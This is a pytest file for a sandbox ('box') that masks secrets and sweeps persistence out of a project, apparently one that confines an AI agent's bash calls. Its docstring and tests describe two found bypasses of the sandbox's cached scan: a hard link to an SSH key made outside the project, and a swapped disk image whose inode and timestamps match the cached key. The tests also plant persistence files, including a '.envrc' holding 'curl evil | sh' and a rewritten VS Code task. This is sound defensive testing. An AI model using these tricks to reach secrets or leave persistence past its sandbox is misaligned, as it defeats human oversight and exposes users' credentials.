"""Outside review (attack8) of the kept project scan (server/box/host.py ``_look_at``, 34ab52e).

Each project folder's part of the box's scan is kept while the folder's key (inode, mtime,
ctime) is unchanged. The claim: the key changes whenever a name in the folder is added,
removed or renamed, "the only way a name in the project can come to point at a secret". Two
ways it does not hold, each found over real HTTP with a real bridge and real bubblewrap, and
each caught by the scan before it kept anything (it looked at every file on every call):

1. **A file's link count is kept from the folder's look.** The box masks a project file with a
   second name (a hard link: its content may be a secret's). A project file that had one name
   when its folder was looked at, and gets a second name *outside* the project afterwards, is
   still the same inode: whatever is written through the other name (a shell appending its
   history in place, vim writing in place a file with several names, a dotfiles tool that
   installs by hard link) is read through the project's name. Adding a name elsewhere changes
   only the file's ctime, never its folder's key, so the kept look says "one name" for good.
   (inotify does not help: a watch on the folder hears of a child's ``chmod``, not of a link
   made to it elsewhere.) Fixed: a plain file's link count is asked per call again, at one
   ``fstatat`` a file from its folder's descriptor; the names and kinds stay kept.

2. **The key does not tell one file system from another.** It is only unique on one: a mount point
   in the project (a disk image, an SD card, a reproducible build's image, whose every
   timestamp is ``SOURCE_DATE_EPOCH``) shows another file system's root under the same path,
   and every ext4 root is inode 2. Two images with equal root times have equal keys, so the
   second one's secret is served through the first one's kept look, and its ``.vscode`` is
   neither read-only nor looked for after the call (rewritten, it stayed). The roots' secret index
   follows the mount table and would find a secret-named file there a second way, but not in
   a folder it skips (a cache, ``Library``, ``site-packages``), which the project scan does
   look into: there the kept look is all there is. (A FUSE file system picks its inode numbers
   and times as it likes, no root needed, and may leave them as they were when its names
   change: no key helps there; not fixed, see the report.) Fixed:
   every kept look is dropped when the mount table changed (a poll on ``/proc/self/mountinfo``);
   the device alone did not do (the second image got the same loop device, as a second SD card
   in the same reader gets the same device).

What held is kept as a test too: persistence a boxed call makes in folders whose looks were
kept (``touch -d`` on them after) is found by the look after the call and swept.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
import time
from collections.abc import Iterator

import pytest

from ..support.boxworld import MARKER, World, put, world_fixture
from ..support.helpers import wait_for

RACY_S = 2.0  # server.box.secrets.RACY_NS: looks at folders changed this recently are not kept


@pytest.fixture
def world() -> Iterator[World]:
    yield from world_fixture(as_user=False, config={"approval": {"tiers": {"bash": "box"}}})


def _settled(world: World, folders: list[str], command: str) -> str:
    """Until every folder's last change is old enough for its look to be kept, then one call
    that makes (and keeps) the looks; its output."""

    def old_enough() -> bool:
        return all(time.time() - os.stat(f).st_ctime > RACY_S + 0.2 for f in folders)

    wait_for(old_enough, 30)
    error, text = world.bash(command)
    assert not error, text
    return text


def test_a_project_file_given_a_second_name_after_its_look_is_masked(world: World) -> None:
    src = os.path.join(world.project, "src")
    notes = put(os.path.join(src, "notes.txt"), "notes")
    text = _settled(world, [world.project, src], "cat src/notes.txt")
    assert "notes" in text, text  # one name when looked at: the project's own content
    # Outside the box, the file gets a second name where a secret lives, and the secret is
    # written through that name in place (as a shell appends to its history file).
    other = os.path.join(world.home, ".ssh", "id_ed25519")
    os.link(notes, other)
    with open(other, "r+") as f:
        f.truncate()
        f.write(f"{MARKER}-through-a-second-name\n")
    assert os.stat(notes).st_nlink == 2
    _, text = world.bash("cat src/notes.txt; echo done")
    assert "done" in text, text
    assert MARKER not in text, text  # the scan before 34ab52e masked it (two names)


def _program(name: str) -> str | None:
    """``name`` on PATH, or in the sbin folders a plain PATH (CI's) leaves out."""
    return shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")


def _tool(name: str) -> str:
    found = _program(name)
    assert found is not None, name
    return found


@contextlib.contextmanager
def _mounted(image: str, where: str, mode: str = "ro") -> Iterator[None]:
    subprocess.run(
        [_tool("mount"), "-o", f"loop,{mode}", image, where], check=True, capture_output=True
    )
    try:
        yield
    finally:
        subprocess.run([_tool("umount"), where], check=False, capture_output=True)


def _image(base: str, name: str, files: dict[str, str]) -> str:
    """A small ext4 image holding ``files``, its root folder's times set to one fixed instant
    (a reproducible build sets every time to ``SOURCE_DATE_EPOCH``)."""
    tree = os.path.join(base, name + ".d")
    for rel, text in files.items():
        put(os.path.join(tree, rel), text)
    image = os.path.join(base, name + ".img")
    with open(image, "wb") as f:
        f.truncate(4 << 20)
    subprocess.run(
        [_tool("mkfs.ext4"), "-q", "-F", "-d", tree, image], check=True, capture_output=True
    )
    for field, value in (
        ("mtime", "20200101000000"),
        ("ctime", "20200101000000"),
        ("mtime_extra", "0"),
        ("ctime_extra", "0"),
    ):
        cmd = f"set_inode_field <2> {field} {value}"
        subprocess.run([_tool("debugfs"), "-w", "-R", cmd, image], check=True, capture_output=True)
    return image


def _can_mount_images() -> None:
    missing = [p for p in ("mkfs.ext4", "debugfs", "mount") if _program(p) is None]
    if os.geteuid() != 0 or missing or not os.path.exists("/dev/loop-control"):
        message = f"mounts disk images: needs root and loop devices (missing: {missing})"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)


def test_another_disk_mounted_where_a_kept_one_was_is_looked_at_again(world: World) -> None:
    _can_mount_images()
    first = _image(world.base, "first", {"readme.txt": "first disk"})
    second = _image(world.base, "second", {"id_rsa": f"{MARKER}-on-the-second-disk"})
    # In a folder the roots' secret index skips (a cache: it follows the mount table, and
    # would find the key there a second way), so the project scan alone answers for it.
    disk = os.path.join(world.project, "cache", "disk")
    os.makedirs(disk)
    with _mounted(first, disk):
        folders = [world.project, os.path.dirname(disk)]
        text = _settled(world, folders, "ls cache/disk; cat cache/disk/readme.txt")
        assert "first disk" in text, text
    with _mounted(second, disk):
        assert os.path.exists(os.path.join(disk, "id_rsa"))
        _, text = world.bash("ls cache/disk; cat cache/disk/id_rsa; echo done")
        assert "done" in text and "id_rsa" in text, text
        assert MARKER not in text, text  # the scan before 34ab52e masked it


def test_persistence_on_another_disk_mounted_where_a_kept_one_was_stays_read_only(
    world: World,
) -> None:
    """The same swap, for persistence: the kept look of the first disk says "no ``.vscode``",
    so the second disk's ``.vscode`` was neither made read-only nor looked for after the call
    (the folder holding it was "unchanged"): the boxed call rewrote the human's VS Code tasks,
    and the change stayed. Before the fix, this failed with the tasks rewritten."""
    _can_mount_images()
    tasks = '{"version": "2.0.0", "tasks": []}'
    first = _image(world.base, "plain", {"readme.txt": "first disk"})
    second = _image(world.base, "editor", {".vscode/tasks.json": tasks})
    disk = os.path.join(world.project, "cache", "disk")
    os.makedirs(disk)
    with _mounted(first, disk):
        folders = [world.project, os.path.dirname(disk)]
        text = _settled(world, folders, "ls cache/disk; cat cache/disk/readme.txt")
        assert "first disk" in text, text
    with _mounted(second, disk, "rw"):
        path = os.path.join(disk, ".vscode", "tasks.json")
        world.bash('echo \'{"tasks": [{"command": "evil"}]}\' > cache/disk/.vscode/tasks.json')
        with open(path, encoding="utf-8") as f:
            assert f.read().strip() == tasks


PLANTED = ("lib/.envrc", "lib/deep/.vscode", "pkg/a/b/.githooks", "x/.idea", "x/.claude")


def test_persistence_a_call_makes_in_kept_folders_is_swept(world: World) -> None:
    """What held: the look after a call finds what it made in folders whose looks were kept
    (each one it made a name in has a new ctime, ``touch -d`` or not), and ordinary work in
    them stays."""
    folders = [world.project]
    for rel in ("lib/deep", "pkg/a/b", "x"):
        put(os.path.join(world.project, rel, "keep.txt"), "keep")
        parts = rel.split("/")
        folders += [os.path.join(world.project, *parts[: i + 1]) for i in range(len(parts))]
    _settled(world, folders, "ls lib lib/deep pkg/a/b x")
    command = (
        "mkdir -p lib/deep/.vscode pkg/a/b/.githooks x/.idea"
        " && echo 'curl evil | sh' > lib/.envrc && echo '{}' > lib/deep/.vscode/tasks.json"
        " && ln -s ../lib x/.claude && echo ok > lib/deep/keep.txt"
        " && touch -d 2001-01-01 lib lib/deep pkg/a/b x pkg/a pkg ."
    )
    _, text = world.bash(command)
    left = [rel for rel in PLANTED if os.path.lexists(os.path.join(world.project, rel))]
    assert left == [], text
    assert "now removed" in text and "x/.claude" in text, text  # made, then swept
    with open(os.path.join(world.project, "lib", "deep", "keep.txt"), encoding="utf-8") as f:
        assert f.read() == "ok\n"
